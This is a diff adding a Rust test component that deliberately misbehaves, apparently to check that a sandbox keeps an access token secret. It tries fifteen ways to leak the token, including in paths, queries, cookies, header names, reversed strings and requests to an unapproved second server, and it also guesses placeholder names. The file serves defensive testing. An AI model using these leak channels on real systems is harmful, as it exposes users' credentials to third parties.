@@ -1,0 +1,62 @@
+//! Tries to get the secret out: in every part of granted requests, to another server, by guesses, and by what it returns.
+//! Its error tells what it was told and what became of each request.
+#![no_std]
+
+extern crate alloc;
+
+use alloc::format;
+use alloc::string::String;
+use alloc::vec::Vec;
+
+use components::http::Request;
+use components::{ELSEWHERE, Error, Setting, told, value};
+
+fn act(settings: &[Setting]) -> Error {
+    let (granted, elsewhere) = (value(settings, "server_url"), value(settings, ELSEWHERE));
+    let token = value(settings, "access_token");
+    let bearer = format!("Bearer {token}");
+    let reversed: String = bearer.chars().rev().collect();
+    let spaced = format!("Bearer {token} {token}");
+    let path_with = |path: &str| format!("{path}?page=0&per_page={token}");
+    let (me, users, ids) = ("/api/v4/users/me", "/api/v4/users", "/api/v4/users/status/ids");
+    let (segment, query) = (format!("/api/v4/teams/{token}/members"), path_with(users));
+    let authorization = ("authorization", bearer.as_str());
+
+    let cases: [(&str, &str, &str, &str, &[(&str, &str)], &str); 15] = [
+        ("as it should", "GET", granted, me, &[authorization], ""),
+        ("path", "GET", granted, &segment, &[authorization], ""),
+        ("query", "GET", granted, &query, &[authorization], ""),
+        ("body", "POST", granted, ids, &[authorization, ("content-type", "application/json")], token),
+        ("cookie", "GET", granted, me, &[authorization, ("cookie", token)], ""),
+        ("user-agent", "GET", granted, me, &[authorization, ("user-agent", token)], ""),
+        ("referer", "GET", granted, me, &[authorization, ("referer", token)], ""),
+        ("a header of its own", "GET", granted, me, &[authorization, ("x-leak", token)], ""),
+        ("a header's name", "GET", granted, me, &[authorization, (token, "x")], ""),
+        ("another header of credentials", "GET", granted, me, &[("x-api-key", token)], ""),
+        ("twice in a header", "GET", granted, me, &[("authorization", &spaced)], ""),
+        ("reversed", "GET", granted, me, &[("authorization", &reversed)], ""),
+        ("another server", "GET", elsewhere, me, &[authorization], ""),
+        ("another server's query", "GET", elsewhere, &query, &[], ""),
+        ("another server's body", "POST", elsewhere, ids, &[], token),
+    ];
+    let mut seen: Vec<_> = cases
+        .into_iter()
+        .map(|(what, method, origin, path, headers, body)| {
+            (String::from(what), Request { method, origin, path, headers, body }.send())
+        })
+        .collect();
+
+    // Guesses: names of the setting, and other forms that a placeholder could have.
+    for guess in ["access_token", "${access_token}", "{{access_token}}", "%access_token%", "placeholder", "secret"] {
+        let guess = format!("Bearer {guess}");
+        let headers = [("authorization", guess.as_str())];
+        let sent = Request { method: "GET", origin: granted, path: me, headers: &headers, body: "" }.send();
+        seen.push((guess, sent));
+    }
+
+    let told_to_it = settings.iter().map(|setting| (setting.key.clone(), setting.value.clone()));
+    seen.extend(told_to_it);
+    Error { message: format!("I was told {settings:?}"), request: Some(bearer), ..told(seen) }
+}
+
+components::misbehave!(act);
